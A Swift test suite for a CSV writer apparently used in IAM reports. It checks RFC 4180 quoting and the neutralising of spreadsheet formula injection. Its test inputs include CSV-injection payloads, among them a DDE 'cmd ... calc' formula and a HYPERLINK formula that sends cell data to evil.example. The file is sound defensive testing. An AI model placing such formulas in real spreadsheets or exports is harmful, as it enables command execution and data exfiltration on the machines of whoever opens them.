import Foundation
import IAMReports
import SwiftCSV
import Testing

/// CSV output is RFC 4180, and a cell a spreadsheet would run as a formula
/// is neutralised with a leading `'` (OWASP, CSV Injection). Values are
/// attacker-chosen: role names, Sids, condition values.
@Suite struct CSVWriterTests {
    /// What a reader must get back for a value: the value, behind a `'` when it starts a formula.
    private static func neutralised(_ value: String) -> String {
        guard let first = value.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return value }
        return "'" + value
    }

    private static func parse(_ text: String) throws -> (header: [String], rows: [[String]]) {
        let csv = try EnumeratedCSV(string: text, delimiter: .comma, loadColumns: false)
        return (csv.header, csv.rows)
    }

    // MARK: - Formula neutralisation

    @Test(arguments: ["=", "+", "-", "@", "\t", "\r"])
    func formulaStartsAreNeutralised(start: String) throws {
        let value = start + "cmd|' /C calc'!A0"
        let cell = CSVWriter.field(value)
        #expect(cell.hasPrefix("\"'"), "\(cell.debugDescription)")
        #expect(!cell.hasPrefix(start))
        var writer = CSVWriter(header: ["name", "note"])
        writer.append([value, "x"])
        let parsed = try Self.parse(writer.text)
        #expect(parsed.rows == [["'" + value, "x"]])
    }

    @Test(arguments: [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1\r\n=2+2",
    ])
    func realPayloadsComeBackAsText(value: String) throws {
        var writer = CSVWriter(header: ["principal"])
        writer.append([value])
        let parsed = try Self.parse(writer.text)
        #expect(parsed.rows == [["'" + value]])
    }

    @Test(arguments: [
        "Role_A", "arn:aws:iam::111111111111:role/ops-admin", "a=b", "1-2", "user@example.com", "'quoted", "",
    ])
    func harmlessCellsAreNotPrefixed(value: String) throws {
        var writer = CSVWriter(header: ["a", "b"])
        writer.append([value, "end"])
        let parsed = try Self.parse(writer.text)
        #expect(parsed.rows == [[value, "end"]])
        #expect(!CSVWriter.field(value).hasPrefix("'"))
    }

    // MARK: - RFC 4180 quoting

    @Test(arguments: [
        ("plain", "plain"),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""),
        ("crlf\r\ninside", "\"crlf\r\ninside\""),
        ("lone\rcr", "\"lone\rcr\""),
        (" padded ", "\" padded \""),
        ("=1", "\"'=1\""),
        ("", ""),
    ])
    func quotingFollowsRFC4180(value: String, expected: String) {
        #expect(Array(CSVWriter.field(value).unicodeScalars) == Array(expected.unicodeScalars))
    }

    /// `"` followed by a combining mark is one Swift Character; the quote
    /// must still be doubled, or spreadsheets (which read code units) see
    /// the field end there.
    @Test func aQuoteCarryingACombiningMarkIsDoubled() {
        let value = "x\"\u{301},=cmd|' /C calc'!A0,\""
        let cell = CSVWriter.field(value)
        #expect(Self.rfc4180Fields(cell + "\r\n") == [[value]])
        #expect(
            cell.unicodeScalars.filter { $0 == "\"" }.count == 2 + 2 * value.unicodeScalars.filter { $0 == "\"" }.count
        )
    }

    @Test func rowsEndInCRLFWithTheHeaderFirst() {
        var writer = CSVWriter(header: ["source", "target"])
        writer.append(["a", "b"])
        writer.append(["c", "d"])
        #expect(writer.text == "source,target\r\na,b\r\nc,d\r\n")
    }

    // MARK: - Round trip

    /// Many rows of hostile text, written and read back with SwiftCSV: every
    /// field comes back as written, behind a `'` where it starts a formula.
    @Test func hostileValuesRoundTripThroughSwiftCSV() throws {
        let alphabet = [
            "a", "Z", "7", " ", ",", "\"", "\n", "\r\n", "\r", "\t", "=", "+", "-", "@", "'", ";", "é", "漢", "🙂", "|",
            "!",
        ]
        var random = SplitMix64(seed: 0x5EED_CAFE)
        var rows: [[String]] = []
        for _ in 0..<400 {
            rows.append(
                (0..<4).map { _ in
                    (0..<Int.random(in: 0...8, using: &random)).map { _ in alphabet.randomElement(using: &random)! }
                        .joined()
                }
            )
        }
        var writer = CSVWriter(header: ["principal", "path", "granted_by", "conditions"])
        for row in rows { writer.append(row) }

        let parsed = try Self.parse(writer.text)
        #expect(parsed.header == ["principal", "path", "granted_by", "conditions"])
        #expect(parsed.rows.count == rows.count)
        for (written, read) in zip(rows, parsed.rows) {
            #expect(read == written.map(Self.neutralised), "\(written.map(\.debugDescription))")
        }
        // The same text read at the level of code points, as spreadsheets do.
        #expect(Self.rfc4180Fields(writer.text).dropFirst().map { $0 } == rows.map { $0.map(Self.neutralised) })
    }

    // MARK: - Reference reader

    /// A strict RFC 4180 reader over Unicode scalars (SwiftCSV reads
    /// Characters, which hides the combining-mark case).
    private static func rfc4180Fields(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = String.UnicodeScalarView()
        var scalars = Array(text.unicodeScalars)[...]
        while let scalar = scalars.popFirst() {
            if scalar == "\"" && field.isEmpty {
                while let inner = scalars.popFirst() {
                    if inner == "\"" {
                        guard scalars.first == "\"" else { break }
                        scalars.removeFirst()
                    }
                    field.append(inner)
                }
            } else if scalar == "," {
                row.append(String(field))
                field = String.UnicodeScalarView()
            } else if scalar == "\r" && scalars.first == "\n" {
                scalars.removeFirst()
                row.append(String(field))
                rows.append(row)
                (row, field) = ([], String.UnicodeScalarView())
            } else {
                field.append(scalar)
            }
        }
        return rows
    }
}

/// A small seeded generator, so a failure can be replayed.
struct SplitMix64: RandomNumberGenerator {
    var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE5_E9B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
